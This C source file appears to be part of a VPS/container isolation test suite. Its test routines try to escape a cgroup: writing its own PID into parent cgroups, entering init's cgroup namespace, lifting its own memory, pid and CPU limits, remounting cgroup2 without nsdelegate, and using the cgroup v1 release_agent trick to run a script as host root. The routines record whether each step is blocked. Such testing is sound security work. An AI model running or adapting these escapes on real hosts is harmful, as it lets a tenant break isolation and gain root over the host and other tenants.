/* cgroups: leaving the VPS's cgroup, lifting its own limits, and the cgroup
 * v1 release_agent (runs a program as host root when a cgroup empties). */
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>


static const char *cg_mnt = "/run/vzsec-cg";

static int cg_mount2(void) {
    mkdir(cg_mnt, 0755);
    if (mount("cgroup2", cg_mnt, "cgroup2", 0, NULL) == 0) return 0;
    return errno;
}

static void cg_self(char *buf, size_t size) {
    read_text("/proc/self/cgroup", buf, size);
    buf[strcspn(buf, "\n")] = 0;
}

/* Our cgroup path (v2 line "0::PATH") leaves the namespace's subtree when
 * it starts with "/..". */
static void cg_check_self(const char *when) {
    char cg[512];
    cg_self(cg, sizeof cg);
    if (strstr(cg, "::/.."))
        escape_note("%s the process is outside the VPS's cgroup subtree: %s", when, cg);
}

static int cg_write_pid(const char *dir) {
    char path[400], pid[32];
    snprintf(path, sizeof path, "%s/cgroup.procs", dir);
    snprintf(pid, sizeof pid, "%d", getpid());
    return write_text(path, pid);
}

ATTACK(cg_escape_procs, "move itself above the VPS's cgroup (cgroup.procs of a parent)") {
    (void)argc, (void)argv;
    char start[512];
    cg_self(start, sizeof start);
    int err = cg_mount2();
    if (err) return verdict_blocked("mount cgroup2: %s (nothing to write to)", ename(err));
    /* What the mount shows as its root is the namespace's root: the VPS's
     * own cgroup. Climb by every path we have. */
    static const char *dirs[] = {"", "/..", "/../..", "/vzsec-child/..", "/.././.."};
    char child[300];
    snprintf(child, sizeof child, "%s/vzsec-child", cg_mnt);
    mkdir(child, 0755);
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        char dir[400];
        snprintf(dir, sizeof dir, "%s%s", cg_mnt, dirs[i]);
        int e = cg_write_pid(dir);
        say("write pid to %s/cgroup.procs: %s", dir, e ? ename(e) : "ok");
        cg_check_self("after writing cgroup.procs,");
    }
    /* The init's cgroup namespace is ours too; a fresh namespace is nested. */
    int nsfd = open("/proc/1/ns/cgroup", O_RDONLY | O_CLOEXEC);
    if (nsfd >= 0 && setns(nsfd, CLONE_NEWCGROUP) == 0) cg_check_self("after setns to init's cgroup ns,");
    if (nsfd >= 0) close(nsfd);
    if (unshare(CLONE_NEWCGROUP) == 0) cg_check_self("after unshare(CLONE_NEWCGROUP),");
    /* Into the child and back up to the namespace root. */
    cg_write_pid(child);
    cg_write_pid(cg_mnt);
    rmdir(child);
    char end[512];
    cg_self(end, sizeof end);
    umount2(cg_mnt, MNT_DETACH);
    block_note("every write stayed inside the VPS's cgroup subtree (/proc/self/cgroup '%s' -> '%s')", start, end);
    return finish();
}

static int cg_mount_has(const char *mnt, const char *opt) {
    FILE *f = fopen("/proc/self/mountinfo", "re");
    char line[1024];
    int has = 0;
    while (f && fgets(line, sizeof line, f)) {
        char m[400];
        if (sscanf(line, "%*s %*s %*s %*s %399s", m) == 1 && strcmp(m, mnt) == 0) has = strstr(line, opt) != NULL;
    }
    if (f) fclose(f);
    return has;
}

static void cg_lift(const char *when) {
    static const char *files[][2] = {{"memory.max", "max"},   {"memory.high", "max"}, {"memory.swap.max", "max"},
                                     {"pids.max", "max"},     {"cpu.max", "max 100000"}, {"cpu.weight", "10000"},
                                     {"io.max", "254:0 rbps=max"}};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        char path[300], before[128], after[128];
        snprintf(path, sizeof path, "%s/%s", cg_mnt, files[i][0]);
        if (read_text(path, before, sizeof before) != 0) continue;
        int err = write_text(path, files[i][1]);
        if (err) {
            block_note("%s %s: %s", when, files[i][0], ename(err));
            continue;
        }
        read_text(path, after, sizeof after);
        before[strcspn(before, "\n")] = 0;
        after[strcspn(after, "\n")] = 0;
        if (strcmp(before, after) != 0)
            escape_note("%s wrote its own %s: '%s' -> '%s'", when, files[i][0], before, after);
        else
            block_note("%s %s accepted the write but still reads '%s'", when, files[i][0], after);
    }
}

ATTACK(cg_limits, "lift its own memory.max, pids.max, cpu.max; drop nsdelegate by remounting") {
    (void)argc, (void)argv;
    int err = cg_mount2();
    if (err) return verdict_blocked("mount cgroup2: %s", ename(err));
    say("cgroup2 mounted, nsdelegate: %s", cg_mount_has(cg_mnt, "nsdelegate") ? "yes" : "no");
    cg_lift("through the namespace root:");
    /* The cgroup2 superblock is the host's: nsdelegate is a host-wide flag. */
    int had = cg_mount_has(cg_mnt, "nsdelegate");
    if (mount(NULL, cg_mnt, NULL, MS_REMOUNT, "") == 0) {
        int has = cg_mount_has(cg_mnt, "nsdelegate");
        if (had && !has)
            escape_note("remounted the host's cgroup2 superblock without nsdelegate");
        else
            block_note("remount cgroup2 without options: accepted, nsdelegate still %s", has ? "on" : "off");
        if (had && !has) cg_lift("after dropping nsdelegate:");
    } else {
        block_note("remount cgroup2: %s", ename(errno));
    }
    umount2(cg_mnt, MNT_DETACH);
    return finish();
}

ATTACK(cg_v1_release_agent, "mount a cgroup v1 hierarchy and set release_agent (N/A on pure v2: try anyway)") {
    (void)argc, (void)argv;
    const char *mnt = "/run/vzsec-cg1";
    mkdir(mnt, 0755);
    static const char *opts[] = {"none,name=vzsec", "memory", "pids", "cpu,cpuacct", "devices",
                                 "freezer", "net_cls,net_prio", "rdma", "misc"};
    int mounted = -1;
    for (size_t i = 0; i < sizeof opts / sizeof opts[0]; i++) {
        if (mount("cgroup", mnt, "cgroup", 0, opts[i]) == 0) {
            mounted = (int)i;
            break;
        }
        block_note("mount cgroup v1 -o %s: %s", opts[i], ename(errno));
    }
    if (mounted < 0) return finish();
    escape_note("mounted a cgroup v1 hierarchy (-o %s)", opts[mounted]);
    /* The agent runs in the host's namespaces: point it at our own file by
     * its host path. */
    const char *priv = getenv("VZSEC_PRIVATE_HOST");
    const char *mark = getenv("VZSEC_AGENT_MARK");
    if (priv && mark) {
        const char *agent = "/root/vzsec-agent.sh";
        char script[512], host_agent[512], path[400];
        snprintf(script, sizeof script, "#!/bin/sh\necho \"release agent ran as $(id -u)\" > %s\n", mark);
        int fd = open(agent, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd >= 0) {
            ssize_t w = write(fd, script, strlen(script));
            (void)w;
            close(fd);
        }
        snprintf(host_agent, sizeof host_agent, "%s%s", priv, agent);
        snprintf(path, sizeof path, "%s/release_agent", mnt);
        int err = write_text(path, host_agent);
        if (err) {
            block_note("release_agent: %s", ename(err));
        } else {
            escape_note("set release_agent to %s", host_agent);
            char child[400], n[400];
            snprintf(child, sizeof child, "%s/vzsec", mnt);
            mkdir(child, 0755);
            snprintf(n, sizeof n, "%s/notify_on_release", child);
            write_text(n, "1");
            pid_t p = fork();
            if (p == 0) {
                char procs[450], pid[32];
                snprintf(procs, sizeof procs, "%s/cgroup.procs", child);
                snprintf(pid, sizeof pid, "%d", getpid());
                write_text(procs, pid);
                _exit(0);
            }
            waitpid(p, NULL, 0);
            sleep(2);
            rmdir(child);
        }
    }
    umount2(mnt, MNT_DETACH);
    return finish();
}
